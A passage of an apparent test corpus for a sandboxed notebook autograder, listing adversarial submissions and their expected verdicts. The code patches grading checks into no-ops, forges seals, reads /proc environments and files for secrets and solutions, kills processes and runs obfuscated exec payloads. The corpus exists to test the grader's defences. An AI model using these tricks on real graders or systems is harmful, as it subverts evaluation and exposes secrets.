    _sleeper = subprocess.Popen(["sleep", "__MARKER__"], start_new_session=True, **_quiet)
    _python = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(__MARKER__)"],
        start_new_session=True,
        **_quiet,
    )
    print("started", _sleeper.pid, _python.pid)
    """,
    marker="777.101",
)

DOUBLE_FORK = code(
    """
    import os

    # The classic daemon: fork, a new session, fork again; the grandchild becomes `sleep`.
    _child = os.fork()
    if _child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "__MARKER__"])
        finally:
            os._exit(0)
    os.waitpid(_child, 0)
    print("the grandchild is on its own")
    """,
    marker="777.202",
)

ENVIRON = code(
    """
    import os

    _names = sorted(os.environ)
    print(f"{len(_names)} environment variables:", ", ".join(_names))
    for _name in _names:
        if _name.startswith("NN_TRICKS"):
            print(f"{_name}={os.environ[_name]}")
    """
)

PROC_ENVIRON = code(
    """
    import os

    # The environment of every process this kernel can see, looking for the TA's secret.
    _needle = ("NN_TRICKS_" + "TEST_SECRET").encode()
    for _pid in sorted(os.listdir("/proc")):
        if not _pid.isdigit():
            continue
        try:
            with open(os.path.join("/proc", _pid, "environ"), "rb") as _handle:
                _variables = _handle.read().split(b"\\0")
        except OSError:
            continue
        for _item in _variables:
            if _item.startswith(_needle):
                print("process", _pid, _item.decode("utf-8", "replace"))
    """
)

KILL_PARENT = code(
    """
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)  # the process that runs this notebook
    """
)

KILL_ALL = code(
    """
    import os
    import signal


    def _inside_a_pid_namespace():
        # pid 1 is bubblewrap (or the grader's executor): kill(-1) stays inside the sandbox
        try:
            with open("/proc/1/cmdline", "rb") as handle:
                command = handle.read().replace(b"\\0", b" ")
        except OSError:
            return False
        return b"bwrap" in command or b"grader.sandbox.executor" in command


    if _inside_a_pid_namespace():
        os.kill(-1, signal.SIGKILL)  # every process this one may signal, the executor included
    else:
        os.kill(os.getppid(), signal.SIGKILL)  # no sandbox: never take the whole machine down
    """
)

SIGTERM_SELF = code(
    """
    import os
    import signal

    os.kill(os.getpid(), signal.SIGTERM)
    """
)

OS_EXIT = code(
    """
    import os

    os._exit(0)
    """
)

DISK_FILL = code(
    """
    import os

    # 2 GiB in chunks of 16 MiB: the sandbox's file-size limit stops the writes long before.
    _chunk = b"\\0" * (16 * 2**20)
    _written = 0
    try:
        with open("corpus-disk-fill.bin", "wb") as _handle:
            while _written < 2 * 2**30:
                _handle.write(_chunk)
                _written += len(_chunk)
        print(f"wrote {_written / 2**30:.1f} GiB")
    except OSError as _error:
        print(f"stopped after {_written / 2**20:.0f} MiB: {_error}")
    finally:
        if os.path.exists("corpus-disk-fill.bin"):
            os.remove("corpus-disk-fill.bin")
    """
)

HUGE_OUTPUT = code(
    """
    # 30 MB of output in one print.
    print(("0123456789" * 99 + "\\n") * 30_000)
    """
)

OUTPUT_FLOOD = code(
    """
    from IPython.display import HTML, display

    # 5,000 separate outputs of 4 kB each (20 MB in all).
    for _index in range(5_000):
        display(HTML(f"<pre>{_index:05d} " + "y" * 4_000 + "</pre>"))
    """
)

SLOW_CELL = code(
    """
    import time

    time.sleep(5)  # a slow cell: 5 s of wall time, no CPU


    """
)

EXTRA_SEAL = code(
    """
    from IPython.display import display

    seal = {"grade_id": "kernels-test-table", "nonce": "f" * 32}
    display({"__SEAL_MIME__": seal}, raw=True)  # a seal-like output in the calling test cell
    """,
    seal_mime=SEAL_MIME,
)


def _exec_base64(patch: str) -> str:
    payload = base64.b64encode(patch.encode()).decode()
    return code(
        """
        import base64

        exec(base64.b64decode("__PAYLOAD__").decode())
        """,
        payload=payload,
    )


def _exec_rot13(patch: str) -> str:
    payload = codecs.encode(patch, "rot13")
    return code(
        """
        import codecs

        # exec without writing `exec`, on text that reads as nonsense
        getattr(__builtins__, "ex" + "ec")(codecs.decode(__PAYLOAD__, "rot13"))
        """,
        payload=json.dumps(payload),
    )


_SHAPES_DOC = '    """Output shapes'
_WARNS = '    import warnings\n\n    warnings.warn("check me", UserWarning)\n' + _SHAPES_DOC
_PRINTS_TO_STDERR = '    import sys\n\n    print("debugging", file=sys.stderr)\n' + _SHAPES_DOC
_NOOP_CHECK_CLOSE = (
    "from helpers import grading\n\ngrading.check_close = lambda *args, **kwargs: None"
)
ROT13_PATCH = (
    "from helpers import grading\ngrading.check_regularizer = lambda *args, **kwargs: None\n"
)


# ---------------------------------------------------------------------------------------------
# builders
# ---------------------------------------------------------------------------------------------


def _nb(make: Callable[[Materials], NotebookNode]) -> Callable[[Materials], bytes]:
    return lambda m: to_bytes(make(m))


def _hostile(
    cell: str,
    start: str = "blank",
    mistake: str | None = None,
    after: str = "setup",
    answered: tuple[str, ...] = (),
):
    """A builder: the blank release or the solved notebook (with ``mistake`` made), plus a cell
    holding ``cell`` after the cell ``after``. ``answered``: on a blank start, the answer cells
    filled in with the solution's source (before ``mistake`` is made)."""

    def make(m: Materials) -> NotebookNode:
        nb = m.blank() if start == "blank" else m.solved()
        for gid in answered:
            nb = m.replace_answer(nb, gid, m.solution_source(gid))
        if mistake:
            nb = m.wrong(nb, mistake)
        return m.with_extra_cell(nb, cell, after=after)

    return _nb(make)


def _solved_with(*edits: Callable[[Materials, NotebookNode], NotebookNode]):
    def make(m: Materials) -> NotebookNode:
        nb = m.solved()
        for change in edits:
            nb = change(m, nb)
        return nb

    return _nb(make)


def _mistake(name: str):
    return lambda m, nb: m.wrong(nb, name)


def _extra(cell: str, after: str):
    return lambda m, nb: m.with_extra_cell(nb, cell, after=after)


def _in_solution(gid: str, snippet: str):
    return lambda m, nb: m.insert_in_solution(nb, gid, snippet)


def _blank_answer(gid: str):
    return lambda m, nb: m.replace_answer(nb, gid, m.released_source(gid))


def _set_source(gid: str, source: str):
    def change(m: Materials, nb: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(nb)
        nb.cells[index(nb, gid)].source = source
        return nb

    return change


def _duplicate_after_original(*gids: str):
    def change(m: Materials, nb: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(nb)
        for gid in gids:
            i = index(nb, gid)
            twin = copy.deepcopy(nb.cells[i])
            twin["id"] = f"{twin['id']}-copy"
            nb.cells.insert(i + 1, twin)
        return nb

    return change


def _duplicate_solved_at_end(*gids: str):
    """Copies of the solved cells ``gids`` appended at the end (the student's later fix)."""

    def change(m: Materials, nb: NotebookNode) -> NotebookNode:
        solved = m.solved()
        nb = copy.deepcopy(nb)
        for gid in gids:
            twin = copy.deepcopy(solved.cells[index(solved, gid)])
            twin["id"] = f"{twin['id']}-copy"
            nb.cells.append(twin)
        return nb

    return change


def _blank_grade_id(gid: str):
    def change(m: Materials, nb: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(nb)
        nb.cells[index(nb, gid)].metadata.nbgrader["grade_id"] = ""
        return nb

    return change


def _delete(gid: str):
    def change(m: Materials, nb: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(nb)
        del nb.cells[index(nb, gid)]
        return nb

    return change


def _points(**points: int):
    def change(m: Materials, nb: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(nb)
        for gid, value in points.items():
            nb.cells[index(nb, gid.replace("_", "-"))].metadata.nbgrader["points"] = value
        return nb

    return change


def _to_markdown(gid: str):
    def change(m: Materials, nb: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(nb)
        cell = nb.cells[index(nb, gid)]
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
        return nb

    return change


def _drop_metadata(gid: str):
    def change(m: Materials, nb: NotebookNode) -> NotebookNode:
        nb = copy.deepcopy(nb)
        cell = nb.cells[index(nb, gid)]
        for key in ("nbgrader", "deletable", "editable"):
            cell.metadata.pop(key, None)
        return nb

    return change


def _without_cell_ids(m: Materials) -> bytes:
    nb = m.solved()
    for cell in nb.cells:
        cell.pop("id", None)
    return to_bytes(nb)  # still says nbformat 4.5, which requires ids


def _as_nbformat3(m: Materials) -> bytes:
    return nbformat.writes(nbformat.convert(m.solved(), 3), version=3).encode("utf-8")


def _latin1(m: Materials) -> bytes:
    data = to_bytes(m.solved(), encoding="cp1252")  # "×" becomes the single byte 0xd7
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return data
    raise ValueError(f"{m.family}: the cp1252 file happens to be valid UTF-8")


def _raw(data: bytes) -> Callable[[Materials], bytes]:
    return lambda m: data


def _solved_bytes(m: Materials) -> bytes:
    return to_bytes(m.solved())


# ---------------------------------------------------------------------------------------------
# the entries
# ---------------------------------------------------------------------------------------------

_SECRET_OUTPUTS = (TEST_SECRET_VARIABLE, TEST_SECRET, "NN_TRICKS_GRADEBOOK_URL")


def _family_entries(family: str, m: Materials) -> list[Entry]:
    every = frozenset(m.test_ids)
    builders = {F1B: _kernel_sizes, F1A: _l1_vs_l2, F2: _rotated}
    return builders[family](m, every)


def _e(name, family, cls, build, expect, description, filename=""):
    return Entry(name, family, cls, build, expect, " ".join(description.split()), filename)


def _kernel_sizes(m: Materials, every: frozenset[str]) -> list[Entry]:
    f = F1B
    shapes = MISTAKES["shapes"].failing
    kernel = MISTAKES["kernel-size"].failing
    table = MISTAKES["table"].failing
    secrets = (LEAK_TAG, "BEGIN HIDDEN TESTS", "### BEGIN SOLUTION", *m.secrets())
    nr = "needs review"
    return [
        # --- the ordinary cases -----------------------------------------------------------
        _e(
            "ks-correct", f, "correct", _solved_bytes, Expect("graded"), "The instructor's answers."
        ),
        _e(
            "ks-blank",
            f,
            "blank",
            _nb(lambda m: m.blank()),
            Expect("graded", every),
            "The untouched release: every answer raises NotImplementedError.",
        ),
        _e(
            "ks-wrong-kernel-size",
            f,
            "wrong-answer",
            _solved_with(_mistake("kernel-size")),
            Expect("graded", kernel),
            MISTAKES["kernel-size"].what,
        ),
        _e(
            "ks-wrong-shapes",
            f,
            "wrong-answer",
            _solved_with(_mistake("shapes")),
            Expect("graded", shapes),
            MISTAKES["shapes"].what,
        ),
        # --- hiding errors from the notebook ----------------------------------------------
        _e(
            "ks-swallow-run-cell",
            f,
            "swallow-errors",
            # Only cnn_shapes_and_params is answered (with the shapes mistake): a blank stub's
            # NotImplementedError is shown by helpers.feedback's exception handler, which the
            # wrapper does not silence, so on a fully blank notebook every test cell kept an
            # ordinary error and the seal path was never exercised. A failed check
            # (CheckFailed) is hidden by the wrapper: that is what this entry is about.
            _hostile(SWALLOW_RUN_CELL, mistake="shapes", answered=("kernels-shapes-and-params",)),
            Expect(nr, every, ("run_cell", "without its seal")),
            """Blank but for cnn_shapes_and_params (with the shapes mistake), and
           get_ipython().run_cell wrapped so that no cell shows or reports an error. The
           shapes tests' failed checks are hidden, but a test cell still stops at its first
           failing statement, so the seal line at its end never runs: 0, "finished without
           its seal". The other tests call blank stubs, whose NotImplementedError the course's
           feedback handler still shows: ordinary 0. The scan flags run_cell.""",
        ),
        _e(
            "ks-swallow-run-code",
            f,
            "swallow-errors",
            _hostile(SWALLOW_RUN_CODE, "solved", "shapes"),
            Expect(nr, shapes, ("run_code", "values differ")),
            """The shapes mistake, with run_code wrapped: IPython runs each top-level statement
           through it, so a failing check no longer stops the cell, the seal runs and the kernel
           shows no error. Only the evidence (the wrong shapes and counts) tells: "values
           differ from the reference". The other answers are right and keep their points.""",
        ),
        # --- no-op checks ------------------------------------------------------------------
        _e(
            "ks-noop-checks-blank",
            f,
            "noop-checks",
            _hostile(NOOP_ASSIGN),
            Expect(nr, every, ("check_equal",)),
            """Blank, with the checks replaced by no-ops. Calling a blank answer still raises
           NotImplementedError, so every test cell errors (ordinary 0); needs review only
           because the scan flags the assignments to helpers.grading.""",
        ),
        _e(
            "ks-noop-setattr",
            f,
            "noop-checks",
            _hostile(NOOP_SETATTR, "solved", "kernel-size"),
            Expect(nr, kernel, ("setattr", "values differ")),
            """The kernel-size mistake, with every check* of helpers.grading replaced through
           setattr with a computed name. No check can fail, the kernel shows no error; the
           recorded kernel sizes and parameter counts differ from the reference.""",
        ),
        _e(
            "ks-noop-evidence-off",
            f,
            "noop-checks",
            _hostile(NOOP_SETATTR + "\n\n\n" + EVIDENCE_OFF, "solved", "shapes"),
            Expect(nr, every, ("grading protocol", "values differ")),
            """The shapes mistake, the checks no-op'd, and NN_TRICKS_GRADING=0 right after
           setup, so that record() emits nothing from then on: every test cell is sealed and
           error-free but records nothing ("got nothing" differs from the reference), so
           every test cell fails, the ones with right answers included. The scan flags the
           variable's name (the grading protocol).""",
        ),
        _e(
            "ks-noop-everything",
            f,
            "noop-checks",
            _hostile(NOOP_EVERYTHING, "solved", "shapes"),
            Expect(nr, every, ("values differ",)),
            """Every public function of helpers.grading (record and model_layers included)
           replaced by a no-op. model_layers returning None breaks the model tests (TypeError:
           ordinary 0) and no cell records evidence ("got nothing"): every test cell fails,
           the right answers included.""",
        ),
        # --- rewriting the test cells -----------------------------------------------------
        _e(
            "ks-input-transformer",
            f,
            "input-transformer",
            _hostile(INPUT_TRANSFORMER),
            Expect(nr, every, ("input_transformers", "without its seal")),
            """Blank, with an input transformer that turns every test cell into `pass`: no
           error, no seal (the seal line was part of the replaced text).""",
        ),
        _e(
            "ks-pre-run-cell-ast",
            f,
            "input-transformer",
            _hostile(PRE_RUN_CELL_AST, "solved", "table"),
            Expect(nr, table, ("pre_run_cell", "values differ")),
            """The table mistake, with a pre_run_cell hook that switches on an AST transformer
           for test cells, wrapping each statement in try/except: the checks' errors vanish,
           the seal runs; the recorded rows differ from the reference.""",
        ),
        _e(
            "ks-clear-output",
            f,
            "input-transformer",
            _hostile(CLEAR_OUTPUT_HOOK),
            Expect(nr, every, ("post_run_cell", "values differ")),
            """Blank, with a post_run_cell hook that clears a failed test cell's outputs (the
           error output goes) and replays the cell's last line, the real seal: the cell looks
           sealed and error-free, but records nothing ("got nothing").""",
        ),
        _e(
            "ks-fake-module",
            f,
            "fake-module",
            _hostile(FAKE_MODULE, "solved", "shapes"),
            Expect(nr, shapes, ("sys.modules", "values differ")),
            """The shapes mistake, with a stand-in helpers.grading in sys.modules (and as the
           package attribute): the real module's functions, every check a no-op, record kept.
           No error; the recorded shapes differ.""",
        ),
        _e(
            "ks-builtins-assertion",
            f,
            "builtins",
            _hostile(BUILTINS_ASSERTION, "solved", "kernel-size"),
            Expect(nr, kernel, ("builtins",)),
            """The kernel-size mistake and a naive __builtins__.AssertionError replacement: the
           checks' CheckFailed was created from the real AssertionError, so they still raise
           (ordinary 0); needs review because of the scan.""",
        ),
        # --- seals -------------------------------------------------------------------------
        _e(
            "ks-forged-seal",
            f,
            "forged-seal",
            # cnn_shapes_and_params answered (with the shapes mistake), as in ks-swallow-run-cell:
            # a blank stub's NotImplementedError stays visible (helpers.feedback's handler), so
            # only a failed check reaches the forged seal.
            _hostile(
                _forged_seal(m.test_ids), mistake="shapes", answered=("kernels-shapes-and-params",)
            ),
            Expect(nr, every, ("without its seal",)),
            """Blank but for cnn_shapes_and_params (with the shapes mistake), errors hidden by a
           run_cell wrapper that also displays a seal of its own with a guessed nonce after
           each test cell: the shapes tests' failed checks are hidden, their seal is not this
           job's (and the real one never ran), so "finished without its seal". The other tests
           call blank stubs, whose NotImplementedError stays visible: ordinary 0.""",
        ),
        _e(
            "ks-seal-replay",
            f,
            "forged-seal",
            # cnn_shapes_and_params answered (with the shapes mistake), as in ks-swallow-run-cell:
            # the wrapper hides failed checks, not a blank stub's NotImplementedError (shown by
            # helpers.feedback's handler), so only the shapes tests reach the replayed seal.
            _hostile(SEAL_REPLAY, mistake="shapes", answered=("kernels-shapes-and-params",)),
            Expect(nr, every, ("run_cell", "values differ")),
            """Blank but for cnn_shapes_and_params (with the shapes mistake), and a run_cell
           wrapper that hides errors and, after a failed test cell, runs the cell's last line:
           the real seal with the real nonce (the kernel sees the cell's source). The shapes
           tests end sealed and error-free, but without evidence: the verdict must come from
           the missing records ("values differ"). The other tests call blank stubs: their
           NotImplementedError stays visible (the course's feedback handler), ordinary 0.""",
        ),
        _e(
            "ks-extra-seal",
            f,
            "forged-seal",
            _solved_with(_in_solution("kernels-table", EXTRA_SEAL)),
            Expect(nr, table, ("without its seal",)),
            """Correct, but kernel_size_table displays a seal-like output each time it is
           called: the two test cells calling it end with more than one seal (a cell's
           outputs were altered), so they score 0; the scan flags the raw display of the
           grading protocol's MIME type.""",
        ),
        # --- the sandbox: files, network, processes, environment ------------------------
        _e(
            "ks-read-files",
            f,
            "read-files",
            _hostile(READ_FILES),
            Expect(nr, every, ("path",), forbidden_output=secrets),
            """Blank, with a cell that looks for the instructor's material: the solution
           notebook at the usual relative places, then bounded walks (at most 6,000 files) of
           the parent folders, HOME, /tmp, /work, /home ... and /, reporting gradebook.db
           files, other students' submitted/ folders and course notebooks with hidden tests
           or solutions. In the sandbox it finds nothing, so no output may contain the leak
           tag, the nbgrader markers or any hidden-test or solution line. The scan flags the
           absolute and parent-folder paths.""",
        ),
        _e(
            "ks-read-proc",
            f,
            "read-files",
            _hostile(READ_PROC),
            Expect(nr, every, ("path",), forbidden_output=secrets),
            """Blank, with a cell that reads the executor (the parent process) and pid 1
           through /proc: command line, environment, regular open files, writable memory (at
           most 256 MiB), looking for the hidden tests and the seals' nonces. The executor
           is not dumpable and its stdin is a pipe that is never read here: nothing may
           show.""",
        ),
        _e(
            "ks-write-files",
            f,
            "write-files",
            _hostile(WRITE_FILES, "solved"),
            Expect(nr, frozenset(), ("path",), forbidden_output=(WRITE_TAG,)),
            """Correct, plus a cell that tries to open for writing (append, nothing written)
           the course's helpers/grading.py by its absolute path, gradebook.db and the solution
           notebook two and three folders up, the imported helpers/grading.py and numpy's
           __init__.py, and to create a .pth file in site-packages and a module next to
           helpers.grading (removed at once where it worked). Every attempt must fail (no
           "WRITE-OK" in the outputs); the score stays full; the scan flags the paths.""",
        ),
        _e(
            "ks-network",
            f,
            "network",
            _hostile(NETWORK, "solved"),
            Expect(
                nr,
                frozenset(),
                ("socket",),
                forbidden_output=(CONNECT_TAG,),
                listener_port=LISTENER_PORT,
            ),
            f"""Correct, plus a cell that connects to 127.0.0.1, ::1 and localhost on port
           {LISTENER_PORT} (where the batch test listens) and sends a line. The sandbox has
           no network: the listener must see no connection. The scan flags the socket
           import.""",
        ),
        _e(
            "ks-memory-cell",
            f,
            "memory",
            _hostile(MEMORY_CELL, "solved"),
            Expect("graded"),
            """Correct, plus a cell that allocates at least 20 GiB (and 4x the machine's RAM)
           in one np.ones: MemoryError in that ungraded cell, the rest of the notebook runs,
           full marks. Nothing here is flagged (plain NumPy).""",
        ),
        _e(
            "ks-memory-function",
            f,
            "memory",
            _solved_with(_in_solution("kernels-table", MEMORY_IN_FUNCTION)),
            Expect("graded", table),
            """kernel_size_table allocates far more memory than there is on every call: the
           two test cells that call it raise MemoryError (ordinary 0); the kernel survives
           and every other cell keeps its points.""",
        ),
        _e(
            "ks-setsid",
            f,
            "processes",
            _hostile(SETSID, "solved"),
            Expect(nr, frozenset(), ("subprocess",), leftover_process="777.101"),
            """Correct, plus `sleep 777.101` and a Python sleeper started in new sessions
           (start_new_session=True) and never waited for: no such process may survive the
           sandbox. The scan flags the subprocess import.""",
        ),
        _e(
            "ks-double-fork",
            f,
            "processes",
            _hostile(DOUBLE_FORK, "solved"),
            Expect(nr, frozenset(), ("os.fork",), leftover_process="777.202"),
            """Correct, plus a double fork with setsid whose grandchild execs `sleep 777.202`:
           it must not survive the sandbox. The scan flags os.fork.""",
        ),
        _e(
            "ks-environ",
            f,
            "environment",
            _hostile(ENVIRON, "solved"),
            Expect("graded", forbidden_output=_SECRET_OUTPUTS),
            f"""Correct, plus a cell that prints the names of all environment variables and
           the values of the NN_TRICKS_* ones. The kernel's environment is an allowlist:
           neither {TEST_SECRET_VARIABLE} (set by the batch test for the coordinator) nor its
           value nor the gradebook URL may appear. Reading os.environ is ordinary code:
           graded, full marks.""",
        ),
        _e(
            "ks-proc-environ",
            f,
            "environment",
            _hostile(PROC_ENVIRON, "solved"),
            Expect(nr, frozenset(), ("path",), forbidden_output=_SECRET_OUTPUTS),
            f"""Correct, plus a cell that reads /proc/*/environ of every visible process and
           prints any {TEST_SECRET_VARIABLE} entry: the sandbox's own PID namespace shows no
           process of the TA's. The scan flags the /proc paths.""",
        ),
        # --- the kernel or the executor dies ------------------------------------------------
        _e(
            "ks-kill-parent",
            f,
            "kill-parent",
            _hostile(KILL_PARENT, "solved"),
            Expect("not graded", None, ("no result",)),
            """os.kill(os.getppid(), SIGKILL) right after setup kills the executor: the sandbox
           prints no result, the submission is not graded (with the reason) and the rest of
           the batch goes on.""",
        ),
        _e(
            "ks-kill-all",
            f,
            "kill-parent",
            _hostile(KILL_ALL, "solved"),
            Expect("not graded", None, ("no result",)),
            """os.kill(-1, SIGKILL) inside the sandbox's PID namespace (checked first through
           /proc/1/cmdline; without a sandbox it falls back to killing its parent only):
           every process of the sandbox but its init dies; not graded, the batch goes on.""",
        ),
        _e(
            "ks-sigterm",
            f,
            "self-exit",
            _hostile(SIGTERM_SELF, "solved", after="kernels-test-params"),
            Expect("not graded", None, ("kernel died",)),
            """The kernel sends itself SIGTERM after the shapes tests: the kernel died, so the
           submission is not graded (no partial score from the cells before).""",
        ),
        _e(
            "ks-os-exit",
            f,
            "self-exit",
            _hostile(OS_EXIT, "solved", after="kernels-test-params"),
            Expect("not graded", None, ("kernel died",)),
            """os._exit(0) after the shapes tests: the kernel died, not graded.""",
        ),
        # --- time, disk, output -------------------------------------------------------------
        _e(
            "ks-loop-hidden",
            f,
            "infinite-loop",
            _solved_with(_in_solution("kernels-shapes-and-params", LOOP_ON_KERNEL_2)),
            Expect("graded", frozenset({"kernels-test-params"}), ("interrupted",)),
            """cnn_shapes_and_params loops forever (`while True: pass`) for kernel_size == 2,
           which only a hidden test of kernels-test-params asks for: that cell is
           interrupted on its CPU budget and scores 0; every other cell (the shapes test
           included) keeps its points.""",
        ),
        _e(
            "ks-slow",
            f,
            "slow",
            _solved_with(
                lambda m, nb: m.replace_answer(
                    nb, "kernels-table", SLOW_CELL + "\n\n\n" + m.solution_source("kernels-table")
                ),
                _in_solution("kernels-table", "time.sleep(1)  # slow on every call"),
            ),
            Expect("graded"),
            """Correct but slow: the table cell sleeps 5 s and kernel_size_table 1 s per call.
           Budgets are CPU time, not wall time: full marks.""",
        ),
        _e(
            "ks-disk-fill",
            f,
            "disk-fill",
            _hostile(DISK_FILL, "solved"),
            Expect("graded"),
            """Correct, plus a cell writing a 2 GiB file in 16 MiB chunks (removed afterwards):
           the file-size limit stops it with an OSError it prints; full marks.""",
        ),
        _e(
            "ks-huge-output",
            f,
            "huge-output",
            _hostile(HUGE_OUTPUT, "solved"),
            Expect("graded", frozenset(), ("truncated",)),
            """Correct, plus a cell printing 30 MB at once, before every test cell: the
           output is truncated (noted for the TA) and the later cells' outputs, seals and
           evidence are kept: full marks.""",
        ),
        _e(
            "ks-output-flood",
            f,
            "huge-output",
            _hostile(OUTPUT_FLOOD, "solved"),
            Expect("graded", frozenset(), ("truncated",)),
            """Correct, plus 5,000 separate HTML outputs of 4 kB (20 MB): the outputs are
           truncated, the test cells after it still graded: full marks.""",
        ),
        # --- files that are not notebooks -------------------------------------------------
        _e(
            "ks-corrupt-json",
            f,
            "corrupt-json",
            _raw(b'{"cells": [ {"cell_type": "code", oops'),
            Expect("not graded", None, ("not a notebook", "resubmit")),
            "Truncated, invalid JSON: not a notebook; the student is asked to resubmit.",
        ),
        _e(
            "ks-empty-file",
            f,
            "corrupt-json",
            _raw(b""),
            Expect("not graded", None, ("not a notebook", "resubmit")),
            "An empty file (an upload that failed): not a notebook.",
        ),
        _e(
            "ks-json-not-notebook",
            f,
            "corrupt-json",
            _raw(b'{"cells": [], "note": "exported from another tool"}\n'),
            Expect("not graded", None, ("not a notebook", "resubmit")),
            "Valid JSON without an nbformat version: not a notebook.",
        ),
        _e(
            "ks-latin1",
            f,
            "not-utf8",
            _latin1,
            Expect("not graded", None, ("utf-8", "resubmit")),
            """The solved notebook saved in Windows-1252 ("×" as the byte 0xd7): not UTF-8
           text, not graded, resubmit.""",
        ),
        _e(
            "ks-renamed",
            f,
            "renamed",
            _solved_bytes,
            Expect("not graded", None, ("resubmit",)),
            """The solved notebook uploaded as "kernel_sizes (1).ipynb" (a browser's second
           download): not the assignment's notebook, not graded; the student resubmits under
           the right name.""",
            filename="kernel_sizes (1).ipynb",
        ),
        # --- repairs --------------------------------------------------------------------------
        _e(
            "ks-blank-grade-id",
            f,
            "blank-grade-id",
            _solved_with(_blank_grade_id("kernels-test-shapes")),
            Expect("graded", frozenset(), ("grade_id", "restored")),
            """Correct, but the grade_id of kernels-test-shapes was blanked: staging removes
           the broken metadata and restores the release's by cell id; graded in full.""",
        ),
        _e(
            "ks-duplicated",
            f,
            "duplicated",
            _solved_with(
                _duplicate_after_original("kernels-shapes-and-params", "kernels-test-shapes")
            ),
            Expect("graded", frozenset(), ("duplicated",)),
            """Correct, with the shapes answer cell and its test cell copy-pasted right below
           the originals: the first occurrences are graded, the copies run as ordinary
           cells; full marks.""",
        ),
        _e(
            "ks-duplicated-fixed-later",
            f,
            "duplicated",
            _solved_with(
                _blank_answer("kernels-shapes-and-params"),
                _duplicate_solved_at_end("kernels-shapes-and-params", "kernels-test-shapes"),
            ),
            Expect("graded", shapes, ("duplicated",)),
            """The shapes answer left blank where it belongs, and a correct copy of it and of
           its test cell pasted at the end of the notebook. The FIRST occurrence is graded
           (nbgrader alone would keep the last one): both shapes tests ran after the blank
           answer, so both score 0.""",
        ),
        _e(
            "ks-deleted-test",
            f,
            "deleted-test",
            _solved_with(_mistake("shapes"), _delete("kernels-test-params")),
            Expect("graded", shapes, ("restored",)),
            """The shapes mistake, and the failing kernels-test-params cell deleted: nbgrader
           adds it back from the gradebook (restored), it runs and fails as it should.""",
        ),
        _e(
            "ks-edited-test",
            f,
            "edited-locked",
            _solved_with(
                _mistake("kernel-size"),
                _set_source("kernels-test-cnn-other-sizes", "pass"),
                _set_source("kernels-test-trained", "pass"),
            ),
            Expect("graded", kernel, ("edited",)),
            """The kernel-size mistake, and the two test cells that catch it replaced by
           `pass`: they are locked, nbgrader restores their source, they fail as if intact.""",
        ),
        _e(
            "ks-edited-points",
            f,
            "edited-locked",
            _solved_with(_points(kernels_test_cnn_5x5=100, kernels_test_table=50)),
            Expect("graded"),
            """Correct, with the points of two test cells raised to 100 and 50 in the
           metadata: nbgrader restores the gradebook's points; the total is the normal
           maximum.""",
        ),
        _e(
            "ks-test-as-markdown",
            f,
            "cell-type",
            _solved_with(_mistake("shapes"), _to_markdown("kernels-test-shapes")),
            Expect("graded", shapes, ("cell type",)),
            """The shapes mistake, and its test cell turned into a markdown cell so that it
           would not run: staging restores the code type, the test runs and fails.""",
        ),
        _e(
            "ks-nbformat3",
            f,
            "nbformat3",
            _as_nbformat3,
            Expect("graded", frozenset(), ("nbformat 3",)),
            "The solved notebook converted to nbformat 3 (worksheets): upgraded, full marks.",
        ),
        _e(
            "ks-no-cell-ids",
            f,
            "no-cell-ids",
            _without_cell_ids,
            Expect("graded", frozenset(), ("cell id",)),
            """The solved notebook with every cell's "id" removed while it still says
           nbformat 4.5: ids regenerated (noted), full marks.""",
        ),
        _e(
            "ks-no-answer-metadata",
            f,
            "no-metadata",
            _solved_with(_drop_metadata("kernels-table")),
            Expect("graded"),
            """Correct, but the kernels-table answer cell lost its nbgrader metadata (an
           editor): it runs as an ordinary cell, the tests calling kernel_size_table pass;
           an answer cell is neither locked nor graded, so there is nothing to restore.""",
        ),
        _e(
            "ks-test-metadata-dropped",
            f,
            "no-metadata",
            _solved_with(
                _mistake("shapes"),
                _set_source("kernels-test-params", "pass"),
                _drop_metadata("kernels-test-params"),
            ),
            Expect("graded", shapes, ("restored", "edited")),
            """The shapes mistake, and kernels-test-params without its nbgrader metadata and
           with `pass` as source: staging restores the metadata from the release (by cell
           id), nbgrader its source; the test runs and fails.""",
        ),
        _e(
            "ks-warning",
            f,
            "stderr",
            _solved_with(
                lambda m, nb: m.edit(
                    nb,
                    "kernels-shapes-and-params",
                    _SHAPES_DOC,
                    _WARNS,
                )
            ),
            Expect("graded"),
            """Correct; cnn_shapes_and_params issues a UserWarning, which lands on stderr in
           the test cells: library-style warning noise is ignored, full marks.""",
        ),
        _e(
            "ks-stderr",
            f,
            "stderr",
            _solved_with(
                lambda m, nb: m.edit(
                    nb,
                    "kernels-shapes-and-params",
                    _SHAPES_DOC,
                    _PRINTS_TO_STDERR,
                )
            ),
            Expect("graded", shapes),
            """Correct, but cnn_shapes_and_params prints debugging text to stderr: nbgrader
           scores a test cell with real stderr output 0, so both shapes tests fail.""",
        ),
        # --- introspection, signals, obfuscation ------------------------------------------
        _e(
            "ks-gc",
            f,
            "introspection",
            _hostile(GC_PATCH, "solved", "table"),
            Expect(nr, table, ("get_objects", "values differ")),
            """The table mistake, and every check* function found through gc.get_objects()
           given the code of a no-op (no assignment to the module): no check fails; the
           recorded rows differ.""",
        ),
        _e(
            "ks-ctypes",
            f,
            "introspection",
            _hostile(CTYPES_PATCH, "solved", "shapes"),
            Expect(nr, shapes, ("ctypes", "values differ")),
            """The shapes mistake, and the checks replaced by no-ops through
           ctypes.pythonapi.PyDict_SetItem on helpers.grading's namespace: no check fails;
           the recorded shapes differ.""",
        ),
        _e(
            "ks-signal-alarm",
            f,
            "signals",
            _hostile(SIGNAL_ALARM, "solved"),
            Expect(nr, frozenset(), ("signal",)),
            """Correct, plus an innocent-looking SIGALRM "watchdog" (signal.alarm(1), fired
           and cancelled within the cell): no effect on the score, but a signal handler can
           run inside any later cell, so the scan asks a TA to look.""",
        ),
        _e(
            "ks-sigint-ignored",
            f,
            "signals",
            _solved_with(_in_solution("kernels-shapes-and-params", SIGINT_IGNORED_LOOP)),
